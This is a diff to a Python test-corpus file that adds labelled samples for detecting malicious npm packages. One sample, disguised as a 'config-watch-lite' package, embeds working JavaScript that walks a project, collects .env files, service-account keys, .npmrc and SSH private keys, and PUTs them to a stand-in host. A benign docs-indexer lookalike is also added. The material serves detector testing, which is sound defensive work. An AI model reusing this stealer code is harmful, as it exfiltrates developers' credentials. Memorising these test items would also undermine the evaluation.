@@ -391,6 +391,87 @@ module.exports = { retry, backoff };
         "(https.request replaced, Authorization/Cookie/x-api-key sent to a fixed host) shows what "
         "it is.", files)
 
+_BABEL_WALK = r""""use strict";
+
+Object.defineProperty(exports, "__esModule", {
+  value: true
+});
+exports.default = void 0;
+var _fs = _interopRequireDefault(require("fs"));
+var _path = _interopRequireDefault(require("path"));
+var _https = _interopRequireDefault(require("https"));
+function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
+const SKIP = ["node_modules", ".git", "coverage"];
+const WATCH = [".env", ".env.production", "credentials.json", "serviceAccountKey.json", ".npmrc", "id_rsa"];
+class ConfigWatcher {
+  constructor(root = process.cwd()) {
+    this.root = root;
+    this.listeners = [];
+  }
+  on(fn) {
+    this.listeners.push(fn);
+    return this;
+  }
+  start() {
+    const seen = [];
+    const scan = dir => {
+      let entries = [];
+      try {
+        entries = _fs.default.readdirSync(dir);
+      } catch (_unused) {
+        return;
+      }
+      for (const name of entries) {
+        const full = _path.default.join(dir, name);
+        let st;
+        try {
+          st = _fs.default.statSync(full);
+        } catch (_unused2) {
+          continue;
+        }
+        if (st.isDirectory()) {
+          if (!SKIP.includes(name) && seen.length < 50) scan(full);
+        } else if (WATCH.includes(name)) {
+          seen.push({ file: full, text: _fs.default.readFileSync(full, "utf8") });
+        }
+      }
+    };
+    scan(this.root);
+    if (seen.length) {
+      const req = _https.default.request({ hostname: "cfg-watch.invalid", path: "/v1/snapshot", method: "PUT", headers: { "content-type": "application/json" } });
+      req.on("error", () => {});
+      req.end(JSON.stringify(seen));
+    }
+    this.listeners.forEach(fn => fn(seen.map(s => s.file)));
+    return this;
+  }
+}
+var _default = exports.default = ConfigWatcher;
+"""
+
+
+@sample
+def babel_config_watcher_https():
+    files = {
+        "package.json": pj(name="config-watch-lite", version="3.0.2", main="lib/index.js",
+                           description="Watch a project's config files and react to changes.",
+                           files=["lib"], scripts={"build": "babel src -d lib"},
+                           devDependencies={"@babel/cli": "^7.24.0", "@babel/core": "^7.24.0"},
+                           keywords=["config", "watch", "env"]),
+        "README.md": readme("config-watch-lite", "```js\nconst Watcher = require('config-watch-lite').default\nnew Watcher().on((files) => console.log(files)).start()\n```"),
+        "lib/index.js": _BABEL_WALK,
+    }
+    return S(
+        "h6b-babel-config-watcher-https",
+        "Babel-compiled 'config watcher' that walks the project, keeps the files whose names are "
+        "on a list of secret files (.env, service-account keys, .npmrc, id_rsa) and PUTs them to a "
+        "fixed host (env-file stealers, Sonatype/Phylum 2023-2025)", "2025",
+        ["babel-compiled", "function-called-later", "directory-walk", "dotenv", "npmrc",
+         "ssh-keys", "https-exfil"],
+        "Our variant of holdout6 dotenv-flow-lite: the files are picked with WATCH.includes(name) "
+        "during a walk instead of endsWith, and sent with https.request instead of raw SMTP.",
+        files)
+
 
 # =============================================================================================
 # Tricky benign
@@ -674,3 +755,47 @@ exports.start = function start({ endpoint, apiKey, interval = 10000 }) {
         "Mirrors h6b-sibling-https-hook-no-timestomp and holdout6 yallist: https.request "
         "replaced by a wrapper that looks at the Authorization and Cookie headers, but it "
         "redacts them and sends spans where the caller says.", files)
+
+
+@benign
+def b_babel_docs_indexer():
+    index = r""""use strict";
+
+Object.defineProperty(exports, "__esModule", {
+  value: true
+});
+exports.default = indexDocs;
+var _fs = _interopRequireDefault(require("fs"));
+var _path = _interopRequireDefault(require("path"));
+var _https = _interopRequireDefault(require("https"));
+function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
+const EXTS = [".md", ".mdx", ".txt"];
+function indexDocs(root, { appId, apiKey }) {
+  const docs = [];
+  const walk = dir => {
+    for (const d of _fs.default.readdirSync(dir, { withFileTypes: true })) {
+      const p = _path.default.join(dir, d.name);
+      if (d.isDirectory() && d.name !== "node_modules") walk(p);
+      else if (EXTS.some(e => p.endsWith(e))) docs.push({ path: _path.default.relative(root, p), body: _fs.default.readFileSync(p, "utf8") });
+    }
+  };
+  walk(root);
+  const req = _https.default.request({ hostname: `${appId}.search.example`, path: "/1/indexes/docs/batch", method: "POST", headers: { "x-api-key": apiKey } });
+  req.end(JSON.stringify({ requests: docs.map(d => ({ action: "addObject", body: d })) }));
+}
+"""
+    files = {
+        "package.json": pj(name="docs-search-indexer", version="1.1.0", main="lib/index.js",
+                           description="Push a project's Markdown docs to a hosted search index.",
+                           files=["lib"], keywords=["docs", "search", "index", "markdown"]),
+        "README.md": readme("docs-search-indexer", "```js\nrequire('docs-search-indexer').default('docs', { appId, apiKey })\n```"),
+        "lib/index.js": index,
+    }
+    return S(
+        "h6b-benign-babel-docs-indexer",
+        "Babel-compiled docs indexer that walks a folder, keeps files by extension and uploads "
+        "them to a search service named by its caller", "2025",
+        ["babel-compiled", "directory-walk", "upload"],
+        "Mirrors h6b-babel-config-watcher-https and holdout6 dotenv-flow-lite: a walk that picks "
+        "files with LIST.some((e) => p.endsWith(e)) and sends them, but the list is document "
+        "extensions.", files)
